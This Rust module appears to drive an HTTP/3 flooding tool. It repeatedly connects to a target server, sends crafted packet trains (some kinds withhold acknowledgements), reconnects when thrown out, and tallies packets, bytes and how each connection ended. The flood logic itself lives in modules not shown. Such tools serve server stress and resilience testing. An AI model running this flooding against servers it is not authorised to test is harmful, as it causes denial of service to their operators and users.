//! Floods of an HTTP/3 server: packets of our own making on one connection, and the next one when it is thrown out.
//!
//! [`keys`] protects packets, [`frames`] writes and reads what they carry, [`link`] is one connection, [`kinds`] what each
//! flood sends.

mod frames;
mod keys;
mod kinds;
mod link;

pub use kinds::Kind;

use super::{Options, Report, SILENCE};
use crate::machine::Failure;
use kinds::Flood;
use link::{End, Link};
use std::time::{Duration, Instant};

/// With no credit left, or none to ask for, the attacker waits so long for more.
const NO_CREDIT: Duration = Duration::from_millis(1);

/// Floods until then.
pub fn run(kind: Kind, options: &Options, until: Instant, report: &mut Report) -> Result<(), Failure> {
    let mut settings = link::transport()?;
    while Instant::now() < until {
        match Link::connect(options.to, &options.name, report.connections, &mut settings) {
            Ok(link) => {
                report.connections += 1;
                flood(kind, options, link, until, report)?;
            }
            Err(error) => report.handshake_failed(error),
        }
    }
    Ok(())
}

/// One connection, to its end.
fn flood(kind: Kind, options: &Options, mut link: Link, until: Instant, report: &mut Report) -> Result<(), Failure> {
    let mut flood = Flood::new(kind, &options.name, &options.path);
    let end = loop {
        let sent = link.send_train(|link, out| flood.fill(link, out))?;
        link.receive(if sent { Duration::ZERO } else { NO_CREDIT })?;
        if flood.is_honest() {
            link.acknowledge()?;
        }
        match &link.end {
            Some(End::Closed(code, reason)) => break format!("{code:#x} {reason}").trim_end().to_owned(),
            Some(End::Refused) => break "refused".to_owned(),
            None if Instant::now() > until => break "still open".to_owned(),
            None if link.heard.elapsed() > SILENCE => break "silent".to_owned(),
            None => {}
        }
    };
    report.ended(end);
    report.packets += link.sent.0;
    report.bytes += link.sent.1;
    Ok(())
}
